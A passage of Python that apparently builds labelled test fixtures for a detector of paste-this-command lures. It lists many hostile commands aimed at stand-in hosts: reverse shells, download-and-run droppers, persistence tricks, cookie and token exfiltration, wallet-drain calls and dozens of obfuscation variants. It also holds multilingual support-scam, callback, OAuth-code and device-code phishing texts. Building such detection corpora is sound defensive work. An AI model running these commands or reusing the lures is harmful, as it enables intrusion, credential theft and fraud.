        "mac-perl-socket-shell",
        "https://www.mac-driver-epson.example/",
        'perl -MIO::Socket -e \'$s=IO::Socket::INET->new("198.51.100.48:4444");open(STDIN,"<&",$s);open(STDOUT,">&",$s);exec("/bin/zsh -i")\'',
    ),
]:
    mac(technique, source, text)

mac(
    "mac-take-home-repo-npm",
    "https://recruit.web3-lab-careers.test/challenge",
    "git clone https://mb24.bluegill-git.invalid/challenge/nft-market && cd nft-market && npm i && npm start",
    "flagged",
)

# --- Linux lures --------------------------------------------------------------------------------------


def nix(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, TERM, source, text, expect, "linux")


for technique, source, text in [
    (
        "linux-curl-sudo-sh-nvidia",
        "https://www.nvidia-linux-driver-fix.test/550",
        "curl -sL https://lx1.crappie-drv.invalid/nv550.sh | sudo sh",
    ),
    (
        "linux-wget-tmp-chmod-nohup",
        "https://www.steamdeck-boost-mods.example/boost",
        "wget -q https://lx2.sunfish-mods.test/boost -O /tmp/.b && chmod +x /tmp/.b && nohup /tmp/.b >/dev/null 2>&1 &",
    ),
    (
        "linux-crontab-echo-curl",
        "https://www.vps-speed-optimizer.invalid/",
        "(crontab -l 2>/dev/null; echo '*/10 * * * * curl -s https://lx3.darter-cron.example/c|sh') | crontab -",
    ),
    (
        "linux-bash-dev-tcp",
        "https://www.linux-server-hardening.test/check",
        "bash -i >& /dev/tcp/203.0.113.222/443 0>&1",
    ),
    (
        "linux-authorized-keys-append",
        "https://support.cloud-vps-panel.example/recover",
        "mkdir -p ~/.ssh && curl -s https://lx5.shiner-keys.invalid/k.pub >> ~/.ssh/authorized_keys",
    ),
    (
        "linux-python-pty-socket",
        "https://www.raspberry-pi-projects.invalid/cam",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.199",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
    ),
    (
        "linux-xmrig-miner-curl-k",
        "https://www.gpu-benchmark-linux.test/run",
        "curl -sk https://lx7.mudminnow-pool.example/xm.tar.gz | tar xz -C /tmp && /tmp/xmrig -o pool.lx7.mudminnow-pool.example:3333 --background",
    ),
    (
        "linux-systemd-user-service",
        "https://www.kde-plasma-themes.invalid/apply",
        "curl -so ~/.config/systemd/user/sync.service https://lx8.killifish-cfg.test/s && systemctl --user enable --now sync.service",
    ),
    (
        "linux-ld-preload-profile",
        "https://www.ubuntu-wlan-repair.example/24-04",
        "sudo wget -qO /usr/lib/libwf.so https://lx9.molly-lib.invalid/libwf.so && echo /usr/lib/libwf.so | sudo tee -a /etc/ld.so.preload",
    ),
    (
        "linux-apt-key-fake-repo",
        "https://www.docker-desktop-linux.test/install",
        "curl -fsSL https://lx10.platy-repo.example/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/dd.gpg && echo 'deb [signed-by=/usr/share/keyrings/dd.gpg] https://lx10.platy-repo.example/apt stable main' | sudo tee /etc/apt/sources.list.d/dd.list && sudo apt update && sudo apt install -y docker-desktop-helper",
    ),
    (
        "linux-busybox-wget-sh",
        "https://www.router-firmware-update.invalid/tplink",
        "cd /tmp; busybox wget http://192.0.2.37/fw.sh; sh fw.sh",
    ),
    (
        "linux-bashrc-alias-sudo",
        "https://www.terminal-productivity-tips.test/",
        "echo \"alias sudo='curl -s https://lx12.guppy-alias.example/s|sh; sudo'\" >> ~/.bashrc",
    ),
]:
    nix(technique, source, text)

# --- browser console -------------------------------------------------------------------------------


def con(technique: str, source: str, text: str, expect: str = "malicious") -> None:
    lure(technique, CON, source, text, expect, "any")


for technique, source, text in [
    (
        "console-discord-localstorage-token",
        "https://discord-nitro.gift-redeem-now.test/redeem",
        "let i=document.createElement('iframe');document.body.appendChild(i);fetch('https://cs1.saury-hook.invalid/t',{method:'POST',body:i.contentWindow.localStorage.token})",
    ),
    (
        "console-telegram-web-session",
        "https://web-telegram.account-verify.example/",
        "fetch('https://cs2.needlefish-tg.test/s',{method:'POST',body:JSON.stringify(Object.entries(localStorage))})",
    ),
    (
        "console-fetch-then-function",
        "https://www.instagram-followers-boost.invalid/",
        "fetch('https://cs3.halfbeak-js.example/f.js').then(r=>r.text()).then(t=>Function(t)())",
    ),
    (
        "console-script-tag-append",
        "https://www.tiktok-coin-bonus.test/claim",
        "var s=document.createElement('script');s.src='https://cs4.flyingfish-cdn.invalid/c.js';document.head.appendChild(s)",
    ),
    (
        "console-document-cookie-image",
        "https://www.roblox-robux-generator.example/",
        "new Image().src='https://cs5.garfish-px.test/p?c='+encodeURIComponent(document.cookie)",
    ),
    (
        "console-eth-sendtransaction",
        "https://airdrop.layer2-rewards.invalid/claim",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x5555555555555555555555555555555555550b1d',value:'0x8ac7230489e80000'}]})",
    ),
    (
        "console-erc20-approve-max",
        "https://mint.pixel-apes-nft.test/",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',data:'0x095ea7b30000000000000000000000005555555555555555555555555555555555550d1cffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})",
    ),
    (
        "console-eval-atob-inline",
        "https://www.youtube-premium-unlock.example/",
        f"eval(atob('{b64('fetch(`https://cs8.ballyhoo-js.invalid/y`).then(r=>r.text()).then(eval)')}'))",
    ),
    (
        "console-dynamic-import",
        "https://www.facebook-page-recovery.test/appeal",
        "import('https://cs9.needle-mod.example/m.mjs')",
    ),
    (
        "console-xhr-sync-eval",
        "https://www.steam-trade-verify.invalid/offer",
        "var x=new XMLHttpRequest();x.open('GET','https://cs10.lancet-xhr.test/s',false);x.send();eval(x.responseText)",
    ),
    (
        "console-setinterval-string",
        "https://www.twitch-drop-rewards.example/",
        "fetch('https://cs11.pike-drop.invalid/d').then(r=>r.text()).then(c=>setInterval(c,60000))",
    ),
    (
        "console-chrome-runtime-cookies-beacon",
        "https://www.gmail-storage-upgrade.test/",
        "navigator.sendBeacon('https://cs12.wahoo-bcn.example/b',JSON.stringify({c:document.cookie,l:location.href,s:sessionStorage}))",
    ),
    (
        "console-solana-sign-all",
        "https://claim.solana-staking-bonus.invalid/",
        "window.solana.connect().then(()=>fetch('https://cs13.bream-sol.test/tx').then(r=>r.json()).then(t=>window.solana.signAllTransactions(t)))",
    ),
    (
        "console-wallet-permit2-sign",
        "https://app.uniswap-rewards.example/claim",
        "ethereum.request({method:'eth_signTypedData_v4',params:[ethereum.selectedAddress,await (await fetch('https://cs14.perch-sig.invalid/permit')).text()]})",
    ),
]:
    con(technique, source, text)

# --- URL-only lures (what the page tells the victim to paste into the Run box) ------------------------

lure("url-only-hta-ip", RUN, "https://verify.bot-screening.test/", "http://203.0.113.67/verify.hta")
lure(
    "url-only-search-ms-runbox",
    RUN,
    "https://www.lohnsteuer-rueckzahlung.example/",
    "search-ms:query=Bescheid&crumb=location:\\\\uo2.smelt-dav.invalid@SSL\\DavWWWRoot",
)
lure(
    "url-only-ms-appinstaller",
    RUN,
    "https://store.app-updates-center.test/",
    "ms-appinstaller:?source=https://uo3.capelin-pkg.example/Update.appinstaller",
)

# --- (b) commands as IOC files and reports list them: no page ---------------------------------------

for technique, text, target, platform in [
    (
        "ioc-irm-iex-ip-path",
        'powershell -w h -c "irm http://198.51.100.83/1.txt|iex"',
        RUN,
        "windows",
    ),
    ("ioc-iex-irm-short-host", "powershell iex(irm ic2.dory-c2.test)", RUN, "windows"),
    (
        "ioc-webclient-downloadstring-hidden",
        "powershell.exe -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('https://ic3.porgy-stage.invalid/a'))\"",
        RUN,
        "windows",
    ),
    (
        "ioc-encoded-webclient",
        "powershell -NoP -sta -NonI -W Hidden -Enc "
        + b64_utf16("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.37/s')"),
        RUN,
        "windows",
    ),
    (
        "ioc-mshta-https-path",
        "mshta.exe https://ic5.scad-hta.example/index.php?r=4471",
        RUN,
        "windows",
    ),
    ("ioc-mshta-ip-port", "mshta http://192.0.2.38:2351/", RUN, "windows"),
    (
        "ioc-msiexec-qn-url",
        "msiexec.exe /i https://ic7.tautog-msi.test/agent.msi /qn /norestart",
        RUN,
        "windows",
    ),
    (
        "ioc-rundll32-davsetcookie",
        "rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie ic8.cunner-dav.invalid@SSL https://ic8.cunner-dav.invalid/doc/v.exe",
        RUN,
        "windows",
    ),
    ("ioc-finger-cmd", "cmd /c finger Galo@203.0.113.231 | cmd", RUN, "windows"),
    (
        "ioc-kongtuke-style-php-device",
        "powershell -w h -c \"iex(irm 'https://ic10.weakfish-tds.example/js.php?device=windows&ip=1')\"",
        RUN,
        "windows",
    ),
    (
        "ioc-netsupport-zip-expand",
        'powershell -w h -c "iwr https://ic11.scup-rat.test/c.zip -o $env:APPDATA\\c.zip;Expand-Archive $env:APPDATA\\c.zip $env:APPDATA\\cl -Force;start $env:APPDATA\\cl\\client32.exe"',
        RUN,
        "windows",
    ),
    (
        "ioc-lumma-start-min-mshta",
        "cmd /c start /min mshta https://ic12.croaker-lm.invalid/verify.mp4",
        RUN,
        "windows",
    ),
    (
        "ioc-castleloader-curl-ps-stdin",
        "cmd /c curl -s https://ic13.drum-cl.example/l.ps1 | powershell -nop -",
        RUN,
        "windows",
    ),
    (
        "ioc-latrodectus-msiexec-appdata",
        'powershell -c "iwr https://ic14.sheepshead-lt.test/x.msi -OutFile $env:APPDATA\\x.msi; msiexec /i $env:APPDATA\\x.msi /qn"',
        RUN,
        "windows",
    ),
    (
        "ioc-certutil-decode-run",
        "cmd /c certutil -urlcache -f https://ic15.spadefish-b64.invalid/p.txt %TEMP%\\p.txt && certutil -decode %TEMP%\\p.txt %TEMP%\\p.exe && %TEMP%\\p.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-bitsadmin-public",
        "bitsadmin /transfer x https://ic16.lookdown-bits.example/x.exe C:\\Users\\Public\\x.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-wscript-webdav-js",
        "wscript.exe \\\\ic17.permit-dav.test@SSL\\DavWWWRoot\\i.js",
        RUN,
        "windows",
    ),
    (
        "ioc-regsvr32-ip-sct",
        "regsvr32 /s /i:http://198.51.100.211/x.sct scrobj.dll",
        RUN,
        "windows",
    ),
    (
        "ioc-net-use-webdav-exe",
        "cmd /c net use Z: \\\\ic19.palometa-dav.invalid@SSL\\DavWWWRoot && Z:\\setup.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-conhost-headless-mshta",
        "conhost.exe --headless mshta https://ic20.moonfish-ch.example/c",
        RUN,
        "windows",
    ),
    (
        "ioc-etherhiding-bsc-rpc",
        'powershell -w h -c "$r=irm -Method Post -Uri https://ic21.lumpsucker-rpc.test/ -Body \'{\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"eth_call\\",\\"params\\":[{\\"to\\":\\"0x5555000000000000000000000000000000005555\\",\\"data\\":\\"0x6d4ce63c\\"},\\"latest\\"],\\"id\\":1}\' -ContentType application/json;iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.result)))"',
        RUN,
        "windows",
    ),
    (
        "ioc-syncappv-irm",
        'SyncAppvPublishingServer.vbs "n;iex(irm https://ic22.opah-appv.invalid/s)"',
        RUN,
        "windows",
    ),
    (
        "ioc-darkgate-autoit-pair",
        "cmd /c curl -so %TEMP%\\Autoit3.exe https://ic23.wolffish-dg.example/a.exe & curl -so %TEMP%\\s.a3x https://ic23.wolffish-dg.example/s.a3x & %TEMP%\\Autoit3.exe %TEMP%\\s.a3x",
        RUN,
        "windows",
    ),
    (
        "ioc-vidar-saps-hidden",
        "powershell saps powershell -Args '-w h -c irm ic24.sablefish-vd.test/v|iex' -WindowStyle Hidden",
        RUN,
        "windows",
    ),
    (
        "ioc-msiexec-package-ip",
        "msiexec /package http://203.0.113.183/pkg.msi /quiet",
        RUN,
        "windows",
    ),
    (
        "ioc-explorer-webdav-exe",
        "\\\\ic26.bluefish-dav.invalid@SSL\\DavWWWRoot\\Document_Viewer.exe",
        EXP,
        "windows",
    ),
    (
        "ioc-nslookup-txt-iex",
        'powershell -c "iex((nslookup -q=txt ic27.rudderfish-dns.example 2>$null)[-1])"',
        RUN,
        "windows",
    ),
    (
        "ioc-mac-curl-bash",
        "curl -fsSL https://ic28.bowfin-mac.test/install.sh | bash",
        TERM,
        "macos",
    ),
    (
        "ioc-mac-osascript-curl",
        "curl -s https://ic29.gar-scpt.invalid/a | osascript",
        TERM,
        "macos",
    ),
    (
        "ioc-mac-base64-bash",
        f'echo "{b64("curl -sL https://ic30.paddlefish-amos.example/u | bash")}" | base64 -d | bash',
        TERM,
        "macos",
    ),
    (
        "ioc-mac-tmp-run",
        "curl -o /tmp/update https://ic31.sturgeon-od.test/update && xattr -c /tmp/update && chmod +x /tmp/update && /tmp/update",
        TERM,
        "macos",
    ),
    ("ioc-linux-wget-sh", "wget -qO- http://192.0.2.211/l.sh | sh", TERM, "linux"),
    (
        "ioc-linux-curl-sudo-e-bash",
        "curl -fsSL https://ic33.gourami-lx.invalid/setup | sudo -E bash -",
        TERM,
        "linux",
    ),
    ("ioc-linux-nc-e", "nc -e /bin/sh 198.51.100.234 4444", TERM, "linux"),
    (
        "ioc-python-urlopen-exec",
        "python -c \"import urllib.request;exec(urllib.request.urlopen('https://ic35.tetra-py.example/p').read())\"",
        TERM,
        "linux",
    ),
    (
        "ioc-assembly-load-bytes",
        'powershell -c "[Reflection.Assembly]::Load((iwr https://ic36.molly-asm.test/a.dll -UseBasicParsing).Content).EntryPoint.Invoke($null,$null)"',
        RUN,
        "windows",
    ),
    (
        "ioc-mshta-javascript-getobject",
        'mshta javascript:a=GetObject("script:https://ic37.cichlid-sct.invalid/s.sct").Exec();close();',
        RUN,
        "windows",
    ),
    ("ioc-pcalua-ip-share", "pcalua -a \\\\203.0.113.248\\share\\u.exe", RUN, "windows"),
    (
        "ioc-curl-exe-run-public",
        "cmd /c curl.exe -L https://ic39.oscar-dl.example/s.exe -o C:\\Users\\Public\\s.exe & C:\\Users\\Public\\s.exe",
        RUN,
        "windows",
    ),
    ("ioc-mshta-decimal-ip", f"mshta http://{ip_int('198.51.100.22')}/v", RUN, "windows"),
    (
        "ioc-gzip-stage-iex",
        f"powershell -c \"iex(New-Object IO.StreamReader(New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip_b64('irm https://ic41.discus-gz.test/g|iex')}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
        RUN,
        "windows",
    ),
    (
        "ioc-winhttp-com",
        "powershell -c \"$h=New-Object -Com WinHttp.WinHttpRequest.5.1;$h.Open('GET','https://ic42.platy-com.invalid/w',0);$h.Send();iex $h.ResponseText\"",
        RUN,
        "windows",
    ),
    (
        "ioc-wmic-process-create",
        'wmic process call create "powershell -w h -c irm https://ic43.angelfish-wm.example/w|iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-schtasks-onlogon",
        'schtasks /create /tn OneDriveUpdate /sc onlogon /tr "powershell -w h -c irm https://ic44.clownfish-st.test/t|iex" /f',
        RUN,
        "windows",
    ),
]:
    ioc(technique, text, target, platform)

# --- (c) fixture-style obfuscations ------------------------------------------------------------------

OB_PAGES = [
    "https://www.kleingarten-tipps.test/winter",
    "https://www.receitas-rapidas.example/bolo",
    "https://www.bricolaje-casero.invalid/estanteria",
    None,
]
OU = "https://ob11.hagfish-obf.test/q"
OU2 = "https://ob11b.lamprey-obf.invalid/r"
JSU = "https://ob11c.remora-js.example/j"
REV = f"irm {OU}|iex"[::-1]
ROT = codecs.encode("curl -s https://ob11e.sculpin-rot.test/r|bash", "rot13")
OBFUSCATED = [
    ("ob-ps-concat-url", RUN, f'powershell -w h -c "iex(irm {ps_concat(OU, 5)})"'),
    ("ob-ps-format-url", RUN, f'powershell -c "iex (irm {ps_format(OU2, 6)})"'),
    (
        "ob-ps-format-cmdlet",
        RUN,
        f'powershell -c "&{ps_format("Invoke-Expression", 4)} (irm {OU})"',
    ),
    (
        "ob-ps-char-codes-whole",
        RUN,
        f"powershell -c \"iex([string]::join('',([char[]]({char_codes(f'irm {OU2}|iex')}))))\"",
    ),
    (
        "ob-ps-base64-url-only",
        RUN,
        f"powershell -c \"iex(irm ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(OU)}'))))\"",
    ),
    (
        "ob-ps-base64-utf8-whole",
        RUN,
        f"powershell -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(f'iwr {OU2} -useb|iex')}')))\"",
    ),
    ("ob-ps-reversed-whole", RUN, f"powershell -c \"iex(-join('{REV}'[-1..-{len(REV)}]))\""),
    (
        "ob-ps-replace-junk",
        RUN,
        f"powershell -c \"iex(irm ('{OU2.replace('.', '#~')}'.Replace('#~','.')))\"",
    ),
    ("ob-ps-backtick-cmdlets", RUN, f'powershell -c "i`ex(i`wr -u`seb {OU})"'),
    (
        "ob-ps-mixed-case",
        RUN,
        f'PoWeRsHeLl -W hIdDeN -c "InVoKe-ExPrEsSiOn(InVoKe-ReStMeThOd {OU2})"',
    ),
    ("ob-ps-gcm-wildcard", RUN, f'powershell -c "&(gcm I*ke-E*n) (irm {OU})"'),
    ("ob-ps-get-alias-wildcard", RUN, f'powershell -c "&(Get-Alias ?e?) (irm {OU2})"'),
    (
        "ob-ps-psobject-method-invoke",
        RUN,
        f'powershell -c "$ExecutionContext.InvokeCommand.NewScriptBlock((irm {OU})).Invoke()"',
    ),
    (
        "ob-ps-xor-bytes",
        RUN,
        f'powershell -c "$k=0x2A;iex(-join(({xor_codes(f"irm {OU2}|iex", 0x2A)})|%{{[char]($_ -bxor $k)}}))"',
    ),
    (
        "ob-ps-unescape-data",
        RUN,
        f"powershell -c \"iex(irm ([uri]::UnescapeDataString('{''.join('%' + format(ord(c), '02X') for c in OU)}')))\"",
    ),
    (
        "ob-ps-hex-string-pairs",
        RUN,
        f"powershell -c \"iex(-join(('{hex_str(f'irm {OU2}|iex')}' -split '(..)'|?{{$_}}|%{{[char][convert]::ToInt32($_,16)}})))\"",
    ),
    (
        "ob-ps-env-comspec-slice",
        RUN,
        f"powershell -c \"&($env:ComSpec[4,15,25]-join'') (irm {OU})\"",
    ),
    (
        "ob-ps-securestring-roundtrip",
        RUN,
        f"powershell -c \"$s=ConvertTo-SecureString 'irm {OU2}|iex' -AsPlainText -Force;iex([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))\"",
    ),
    (
        "ob-ps-invoke-command-scriptblock",
        RUN,
        f"powershell -c \"Invoke-Command -ScriptBlock ([ScriptBlock]::Create((New-Object Net.WebClient).DownloadString('{OU}')))\"",
    ),
    (
        "ob-ps-set-alias-then-call",
        RUN,
        f'powershell -c "Set-Alias q Invoke-Expression; q (irm {OU2})"',
    ),
    (
        "ob-cmd-carets-powershell",
        RUN,
        carets(f"cmd /c powershell -w h -c irm {OU}|iex", 3).replace("|", "^|"),
    ),
    ("ob-cmd-quote-insertion", RUN, f'c"m"d /c p"ow"er"sh"ell -c "irm {OU2}|iex"'),
    (
        "ob-cmd-set-call-delayed",
        RUN,
        f'cmd /v:on /c "set a=power&set b=shell&call !a!!b! -c irm {OU}^|iex"',
    ),
    (
        "ob-cmd-var-substring",
        RUN,
        f'cmd /c "set x=ZZpowershellYY&&call %x:~2,10% -c irm {OU2}^|iex"',
    ),
    ("ob-cmd-comspec-slice-for", RUN, f"cmd /c \"for /f %i in ('curl -s {OU}') do %i\""),
    ("ob-cmd-env-empty-vars", RUN, f'cmd /c p%ZZ%owe%YY%rshell -c "irm {OU2}|iex"'),
    ("ob-cmd-caret-mshta", RUN, "m^s^h^t^a h^t^t^p^s://ob11d.wrasse-hta.example/m"),
    ("ob-bash-ansi-c-hex", TERM, f"bash -c $'{esc_hex(f'curl -s {OU}|bash')}'"),
    ("ob-bash-var-indirection", TERM, f"a=cu;b=rl;c=ba;d=sh;${{a}}${{b}} -s {OU2}|${{c}}${{d}}"),
    ("ob-bash-printf-octal", TERM, f"$(printf '{esc_oct(f'curl -s {OU}')}')|sh"),
    ("ob-bash-rev-pipe", TERM, f"echo '{f'curl -s {OU2}|sh'[::-1]}'|rev|sh"),
    ("ob-bash-xxd-reverse", TERM, f"echo {hex_str(f'wget -qO- {OU}|sh')}|xxd -r -p|sh"),
    ("ob-bash-ifs-spaces", TERM, f"curl${{IFS}}-s${{IFS}}{OU2}|bash"),
    ("ob-bash-tr-rot13", TERM, f"echo '{ROT}'|tr 'A-Za-z' 'N-ZA-Mn-za-m'|bash"),
    (
        "ob-js-bracket-eval-atob",
        CON,
        f"window['ev'+'al'](atob('{b64(f'fetch(`{JSU}`).then(r=>r.text()).then(eval)')}'))",
    ),
    (
        "ob-js-fromcharcode-url",
        CON,
        f"fetch(String.fromCharCode({char_codes(JSU)})).then(r=>r.text()).then(eval)",
    ),
    (
        "ob-js-constructor-chain",
        CON,
        f"[]['at']['constructor'](atob('{b64(f'import(`{JSU}`)')}'))()",
    ),
    (
        "ob-js-hex-escape-eval",
        CON,
        "self['\\x65\\x76\\x61\\x6c'](`fetch('https://ob11f.tilapia-js.invalid/x').then(r=>r.text()).then(eval)`)",
    ),
    (
        "ob-js-split-reverse-join",
        CON,
        f"eval('{f'fetch(`{JSU}`).then(r=>r.text()).then(eval)'[::-1]}'.split('').reverse().join(''))",
    ),
    (
        "ob-js-unicode-escape-fn",
        CON,
        "Function('\\u0066\\u0065\\u0074\\u0063\\u0068(\"https://ob11g.grunion-js.test/u\").then(r=>r.text()).then(eval)')()",
    ),
]
for i, (technique, target, text) in enumerate(OBFUSCATED):
    platform = {RUN: "windows", TERM: "linux", CON: "any"}[target]
    source = OB_PAGES[i % len(OB_PAGES)]
    if source is None:
        ioc(technique, text, target, platform)
    else:
        lure(technique, target, source, text, "malicious", platform)

# --- (d) texts that are not commands: scams, callbacks, ConsentFix, device codes ---------------------

SCAM = "support-scam"
for lang, source, text in [
    (
        "en",
        "https://security-alert.pc-protection-center.test/",
        "Windows Defender Firewall has blocked this PC.\nError # 0x80073b01 - Pornographic spyware detected. Your Facebook logins, credit card details and email account may be stolen.\nContact Windows Support immediately: 1-555-017-3390 (Toll Free). Do not shut down or restart your computer.",
    ),
    (
        "de",
        "https://warnung.rechner-gesperrt.example/",
        "Windows-Sicherheitswarnung: Zugriff auf diesen PC wurde aus Sicherheitsgründen gesperrt.\nTrojaner erkannt (Fehlercode DW6VB36). Ihre Bankdaten sind in Gefahr.\nBitte rufen Sie den Microsoft-Support an: 0800 555 0147",
    ),
    (
        "fr",
        "https://avertissement.pc-infecte.invalid/",
        "ALERTE SÉCURITÉ : l'accès à cet ordinateur a été suspendu.\nUn logiciel espion a été détecté sur votre système. Ne fermez pas cette page.\nContactez un technicien agréé Microsoft : 09 55 50 14 22",
    ),
    (
        "es",
        "https://alerta.equipo-bloqueado.test/",
        "Su equipo ha sido bloqueado por actividad sospechosa.\nVirus detectado: sus contraseñas y datos bancarios están en riesgo.\nLlame al soporte técnico de Windows: +34 555 019 882 (gratuito, 24 h)",
    ),
    (
        "it",
        "https://avviso.computer-protetto.example/",
        "Il tuo computer è stato bloccato a causa di un'infezione.\nCodice errore: 0x268d3. Non spegnere il computer per evitare la perdita di dati.\nChiama subito l'assistenza Microsoft al numero verde 800 555 921",
    ),
    (
        "pt",
        "https://aviso.seguranca-windows-pc.invalid/",
        "Seu computador foi bloqueado!\nDetectamos um vírus que pode roubar suas senhas e dados do cartão.\nLigue imediatamente para o suporte técnico da Microsoft: 0800 555 4471",
    ),
    (
        "nl",
        "https://waarschuwing.computer-geblokkeerd.test/",
        "Uw computer is geblokkeerd wegens verdachte activiteit.\nEr is een Trojaans paard gevonden. Sluit deze pagina niet en start de pc niet opnieuw op.\nBel direct Microsoft Ondersteuning: 020 555 0192",
    ),
    (
        "pl",
        "https://ostrzezenie.komputer-zablokowany.example/",
        "Twój komputer został zablokowany!\nWykryto oprogramowanie szpiegujące. Twoje hasła i dane bankowe są zagrożone.\nZadzwoń natychmiast do pomocy technicznej Microsoft: +48 555 010 443",
    ),
    (
        "tr",
        "https://uyari.bilgisayar-kilitlendi.invalid/",
        "Bilgisayarınız güvenlik nedeniyle kilitlendi.\nCasus yazılım tespit edildi: banka bilgileriniz risk altında.\nHemen Microsoft Destek hattını arayın: 0850 555 0138",
    ),
    (
        "ru",
        "https://preduprezhdenie.kompyuter-zablokirovan.test/",
        "Ваш компьютер заблокирован из-за подозрительной активности.\nОбнаружен троян. Не выключайте компьютер, иначе данные будут потеряны.\nПозвоните в службу поддержки Microsoft: 8-800-555-01-72",
    ),
    (
        "ja",
        "https://keikoku.pc-lock-center.example/",
        "お使いのコンピューターはロックされました。\nトロイの木馬が検出されました。個人情報が盗まれる恐れがあります。\nただちにマイクロソフトサポートにお電話ください：050-5550-1928",
    ),
    (
        "zh",
        "https://jinggao.diannao-suoding.invalid/",
        "您的电脑已被锁定！\n检测到木马病毒，您的银行账户和密码可能已经泄露。\n请勿关闭电脑，立即拨打微软技术支持热线：400-555-0176",
    ),
    (
        "ar",
        "https://tahdhir.jihaz-maghlaq.test/",
        "تم قفل جهاز الكمبيوتر الخاص بك بسبب نشاط مريب.\nتم اكتشاف برنامج تجسس، بياناتك المصرفية في خطر.\nاتصل بدعم مايكروسوفت فورًا على الرقم: 800-555-0199",
    ),
]:
    lure(f"{SCAM}-{lang}", UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "callback-mcafee-invoice-en",
        "https://mail.webinbox-reader.test/msg/8812",
        "McAfee LiveSafe - Invoice #MC-44719\nThank you for your renewal. Your account has been debited $389.00 for a 3-year plan.\nTo cancel and receive a full refund, contact our billing desk at +1 (555) 018-2276 within 48 hours.",
    ),
    (
        "callback-apple-icloud-de",
        "https://post.mail-lesen.example/n/55",
        "Ihr iCloud+ Jahresabo (2 TB) wurde verlängert: 599,99 €.\nBestellnummer: AP-28813-DE\nFalls Sie diesen Kauf nicht getätigt haben, rufen Sie uns an: +49 555 0172 3398",
    ),
    (
        "callback-coinbase-security-en",
        "https://inbox.secure-mail-view.invalid/r/2271",
        "Coinbase Security: a withdrawal of 0.8421 BTC to an unrecognised wallet is pending.\nIf this was not you, call Coinbase Support immediately at +1-555-016-9021 to freeze your account.",
    ),
    (
        "callback-windows-license-tr",
        "https://eposta.gelen-kutusu.test/m/7",
        "Windows lisansınızın süresi doldu ve 4.899 TL tutarında yenileme ücreti kartınızdan çekilecek.\nİptal etmek için 24 saat içinde arayın: +90 555 018 44 21",
    ),
    (
        "callback-antivirus-ja",
        "https://mail.jushin-box.example/v/19",
        "ウイルス対策ソフトの自動更新が完了しました。ご請求額：¥52,800\n心当たりがない場合は、返金窓口までお電話ください：03-5550-1844",
    ),
    (
        "callback-bank-fraud-pt",
        "https://webmail.caixa-entrada.invalid/m/41",
        "Banco: detectamos uma compra de R$ 3.219,90 no seu cartão final 4471.\nSe não reconhece esta compra, ligue para a central antifraude: 0800 555 0611",
    ),
    (
        "callback-amazon-order-ar",
        "https://mail.sundooq-alwarid.test/r/3",
        "تم تأكيد طلبك من أمازون: iPhone 16 Pro بقيمة 5,499 ريال.\nإذا لم تقم بهذا الطلب، اتصل بخدمة العملاء فورًا: 800-555-0133",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "consentfix-localhost-code-port",
        "https://tenant-verify.m365-review.test/continue",
        "http://localhost:45123/?code=0.AUEB7x2kP9wLmQ-aZb3RtY8uVc1dNf&state=55ab&session_state=9c1e",
    ),
    (
        "consentfix-127-oauth-callback",
        "https://azure-consent.app-approval.example/done",
        "http://127.0.0.1:8000/oauth2/callback?code=1.AXEAm9Kx7LpQz-rTbY&client_info=eyJ1aWQiOiI1NSJ9&state=4471",
    ),
    (
        "consentfix-instructions-de",
        "https://sicherheit-konto.pruefung-portal.invalid/",
        "Melden Sie sich mit Ihrem Microsoft-Konto an. Danach zeigt der Browser eine Seite, die nicht geladen werden kann (localhost).\nKopieren Sie die vollständige Adresse aus der Adressleiste und fügen Sie sie hier ein.",
    ),
    (
        "consentfix-instructions-es",
        "https://verificacion.cuenta-empresa.test/",
        "Inicie sesión con su cuenta de Microsoft. El navegador mostrará una página que no se puede abrir (localhost).\nCopie la dirección completa de la barra y péguela en el cuadro de abajo para terminar.",
    ),
    (
        "consentfix-google-loopback",
        "https://workspace-verify.drive-share-access.example/",
        "http://localhost:8085/?state=x9&code=4/0AeanS0ZtQ-55pLkWmN&scope=https://www.googleapis.com/auth/drive",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "device-code-payroll-en",
        "https://payroll-update.staff-portal.test/",
        "Action required: confirm your direct-deposit details before Friday.\nVisit https://microsoft.com/devicelogin and enter code: FQ7K-2MXP",
    ),
    (
        "device-code-shared-doc-fr",
        "https://partage.document-securise.example/",
        "Un document vous a été partagé. Pour l'ouvrir, rendez-vous sur microsoft.com/devicelogin et saisissez le code : R8TW-4KLN",
    ),
    (
        "device-code-github-it",
        "https://github-org.access-request.invalid/",
        "Per approvare l'accesso all'organizzazione apri https://github.com/login/device e inserisci il codice 8D2F-C4A1",
    ),
    (
        "device-code-teams-chat-ru",
        "https://teams-chat.invite-link.test/",
        "Чтобы присоединиться к защищённому чату, откройте microsoft.com/devicelogin и введите код N2QH-7VRB",
    ),
    (
        "device-code-it-helpdesk-ja",
        "https://helpdesk.mfa-renewal.example/",
        "多要素認証の更新が必要です。microsoft.com/devicelogin を開いて、コード K4MZ-9TQD を入力してください。",
    ),
]:
